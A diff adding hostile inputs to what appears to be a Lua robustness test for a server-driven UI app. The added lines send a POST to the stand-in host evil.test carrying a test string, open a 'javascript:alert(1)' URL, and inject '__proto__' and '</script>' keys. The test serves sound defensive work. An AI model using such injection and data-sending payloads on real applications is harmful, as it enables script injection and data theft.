@@ -25,6 +25,13 @@ describe(evil, function()
     })
     app.network:allow_unmatched()
     app:open("/home")
+    app:perform {
+      action.sendRequest { url = "https://evil.test/" .. evil, method = "POST", data = { [evil] = evil }, headers = { X = evil } },
+      action.openExternalURL { url = "javascript:alert(1)" }, action.openNativeRoute { route = evil, data = { k = evil } },
+      { _beagleAction_ = "custom:" .. evil, ["__proto__"] = evil },
+      action.setContext { contextId = "global", path = "evil", value = { ["</script>"] = evil } },
+    }
+    app:open("/home")
     app:find("b"):press()
     print(evil)
     assert.equal(evil, app:find("made").text .. "?")
